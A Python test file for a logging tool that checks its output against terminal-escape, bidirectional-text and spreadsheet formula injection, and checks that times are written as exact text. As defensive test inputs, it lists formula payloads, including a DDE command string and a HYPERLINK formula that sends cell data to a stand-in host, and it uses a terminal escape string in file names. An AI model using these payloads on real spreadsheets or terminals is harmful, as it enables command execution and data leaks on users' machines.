"""What events are shown as: nothing that controls a terminal, no formulas, times as text."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import unicodedata
from pathlib import Path
from typing import Any

import pytest

from logd.clock import times
from logd.render import (
    BYTE_ORDER_MARK,
    csv_lines,
    event_line,
    iso_time,
    json_line,
    printable,
    spreadsheet_lines,
    to_json,
)
from logd.reports.person import text_lines
from logd_client import Client
from tests.support import forked_cli
from tests.support.instance import ROOT, Instance, check_sums

BIDI = [
    *range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C,
]  # fmt: skip
# Control characters, invisible ones, line ends of Unicode.
HIDDEN = [
    chr(code)
    for code in range(sys.maxunicode + 1)
    if unicodedata.category(chr(code)) in ("Cc", "Cf", "Zl", "Zp")
]
NS = 1796018214959246347


def event(user: str | None, **props: Any) -> dict[str, Any]:
    return {
        "id": 1, "ts_ns": NS, "stored_ns": NS + 1, "type": "login", "user": user,
        "producer": "0-0000000000000001", "sequence": 1, "props": props,
    }  # fmt: skip


def test_the_hidden_characters_are_those_that_reverse_text_and_more() -> None:
    assert {chr(code) for code in BIDI} <= set(HIDDEN)
    assert len(HIDDEN) > 200


@pytest.mark.parametrize("char", [*HIDDEN, "\u2028\x1b[2J\u202e"])
def test_no_output_for_people_or_in_json_has_a_hidden_character(char: str) -> None:
    text = f"a{char}b"
    row = event(text, **{text: text})
    shown = [
        printable(text),
        event_line(row),
        to_json(row),
        json_line(row),
        *text_lines(
            iter(
                [
                    {
                        "kind": "person",
                        "user": text,
                        "spellings": [text],
                        "senders": None,
                        "up_to_event": 1,
                    },
                    row | {"kind": "event"},
                ]
            )
        ),
        next(iter(list(spreadsheet_lines([row]))[1:])).removesuffix("\r"),
    ]
    for line in shown:
        assert not set("\n".join(line.splitlines())) & (set(HIDDEN) - {"\n"}), ascii(line)
        assert len(line.splitlines()) <= 2  # a heading
    assert json.loads(to_json(row)) == row, "JSON stays exact"


def test_letters_and_spaces_of_all_languages_are_shown_as_they_are() -> None:
    text = "Łukasz 李 עברית हिन्दी 😀"
    assert printable(text) == text
    assert to_json(text + "\xa0\u3000") == f'"{text}\xa0\u3000"'


# -- times -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("ts_ns", [0, 1, NS, 2**53 + 1, 2**63 - 1, 999_999_999, 10**18 - 1])
def test_a_time_as_text_is_exact_and_an_option_takes_it(ts_ns: int) -> None:
    text = iso_time(ts_ns)
    assert len(text) == len("2026-11-30T05:56:54.959246347Z")
    assert times.parse(text, 0) == ts_ns
    assert times.parse(text.replace("Z", "+00:00"), 0) == ts_ns


def test_times_before_1970_are_shown_too() -> None:
    assert iso_time(-1) == "1969-12-31T23:59:59.999999999Z"
    assert iso_time(-(2**63)) == "1677-09-21T00:12:43.145224192Z"


def test_every_time_in_a_json_line_is_there_as_text() -> None:
    names = {
        "ts_ns": "time", "stored_ns": "stored_time", "detected_ns": "detected_time",
        "first_ts_ns": "first_time", "last_ts_ns": "last_time", "made_ns": "made_time",
    }  # fmt: skip
    shown = json.loads(json_line({**dict.fromkeys(names, NS), "expires_ns": None, "id": 2}))
    assert shown == {
        **dict.fromkeys(names, NS),
        **dict.fromkeys(names.values(), "2026-11-30T05:56:54.959246347Z"),
        "expires_ns": None, "expires_time": None, "id": 2,
    }  # fmt: skip


# -- spreadsheets ----------------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1",
    '=HYPERLINK("http://x.example/?"&A1,"x")', "a;=1+1", 'a";=1+1', "a\t=1+1",
    " =1+1", "a;  @SUM(1)",
]  # fmt: skip
BEGINS_A_FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def cells(lines: list[str], delimiter: str) -> list[str]:
    text = "".join(f"{line}\n" for line in lines)
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        for cell in row
    ]


def formulas(lines: list[str]) -> list[str]:
    """Cells that are formulas where a comma, a semicolon or a tab ends cells."""
    found = [cell for delimiter in ",;\t" for cell in cells(lines, delimiter)]
    return [cell for cell in found if cell.lstrip(" ").startswith(BEGINS_A_FORMULA)]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_for_a_spreadsheet_is_a_formula_in_any_country(text: str) -> None:
    rows = [event(text), event(None, k=text), event(None, **{text: 1})]
    assert formulas(list(csv_lines(rows))) != []
    assert formulas(list(spreadsheet_lines(rows))) == []


def test_what_no_spreadsheet_calculates_is_written_as_it_is() -> None:
    names = [
        "7",
        "0",
        "70",
        "0.5",
        "9" * 15,
        "e3",
        "3e",
        "0x7",
        "12e3a",
        "Łukasz",
        "a,b",
        'a"b',
        "a=b",
        "x@example.org",
        "a-b",
        "null",
    ]
    lines = list(spreadsheet_lines(event(name, text=name) for name in names))
    assert lines[0][0] == BYTE_ORDER_MARK
    assert all(line.endswith("\r") and line.count("\r") == 1 for line in lines)
    text = "".join(f"{line}\n" for line in lines).removeprefix(BYTE_ORDER_MARK)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["user"] for row in rows] == names
    assert [json.loads(row["props"]) for row in rows] == [{"text": name} for name in names]
    assert {(row["time"], row["stored_time"]) for row in rows} == {(iso_time(NS), iso_time(NS + 1))}
    assert [row["sequence"] for row in rows] == ["1"] * len(names)


def test_a_number_with_more_digits_than_a_spreadsheet_keeps_is_text() -> None:
    for sequence, shown in ((10**15 - 1, "9" * 15), (10**15, f"'{10**15}")):
        line = list(spreadsheet_lines([event("7") | {"sequence": sequence}]))[1]
        assert cells([line], ",")[6] == shown


@pytest.mark.parametrize(
    "user", ["007", "00", " 01", "1" * 16, "108123456789012345678", "12e3", "1E5", "9e99 ", "1.e3"]
)
def test_an_id_that_a_spreadsheet_would_show_as_another_is_marked(user: str) -> None:
    """Two persons, or the account of an identity provider, would have one number."""
    as_number = f"{float(user):.15g}"
    assert as_number != user
    line = list(spreadsheet_lines([event(user)]))[1]
    assert cells([line], ",")[4] == f"'{user}"


def test_a_spreadsheet_gets_utf_8_in_any_locale(instance: Instance, tmp_path: Path) -> None:
    instance.start()
    with Client(instance.socket) as client:
        assert client.emit("login", user="=Łukasz 李")
        assert client.flush(20)
    check_sums(instance.settle(), attempted=1, accepted=1)
    config = ["--config", str(instance.config.path), "--format", "spreadsheet"]
    for encoding in ("utf-8", "latin-1", "ascii"):
        out = tmp_path / encoding
        out.touch()
        done = forked_cli.run(["query", *config], stdout=str(out), encoding=encoding)
        assert done.code == 0, done
        assert out.read_bytes().startswith(b"\xef\xbb\xbfid,time,")
        assert out.read_bytes().endswith(b"}\r\n")
        assert ",'=Łukasz 李," in out.read_text("utf-8")


# -- whatever else is printed ----------------------------------------------------------------------


def at_terminal(command: list[str]) -> str:
    """What the command writes to a terminal, on both streams."""
    ours, theirs = os.openpty()
    with subprocess.Popen(
        [sys.executable, "-m", "logd", *command], stdout=theirs, stderr=theirs, cwd=ROOT
    ) as process:
        os.close(theirs)
        found = b""
        while True:
            try:
                data = os.read(ours, 65536)
            except OSError:  # EIO: the command has ended
                break
            found += data
    os.close(ours)
    assert process.returncode is not None
    return found.decode().replace("\r\n", "\n")


def test_the_name_of_a_file_commands_no_terminal(instance: Instance) -> None:
    """On either stream: in output, in an error, in a wrong command line."""
    instance.start()
    config = ["--config", str(instance.config.path)]
    evil = "\x1b]0;owned\x07\u202e"
    shown = [
        at_terminal(["backup", *config, str(instance.directory / f"{evil}.db")]),
        at_terminal(["backup", *config, f"/nowhere/{evil}/x.db"]),
        at_terminal(["query", *config, f"--{evil}"]),
        at_terminal(["query", *config, "--since", evil]),
        at_terminal(["query", *config, f"extra {evil}"]),
    ]
    for text in shown:
        assert "owned" in text
        # A progress bar moves the cursor and clears its line.
        plain = text.replace("\x1b[?25l", "").replace("\x1b[?25h", "").replace("\x1b[K", "")
        assert set(plain.replace("\r", "")) & set(HIDDEN) == {"\n"}, ascii(text)
    assert "made " in shown[0] and "verified" in shown[0]
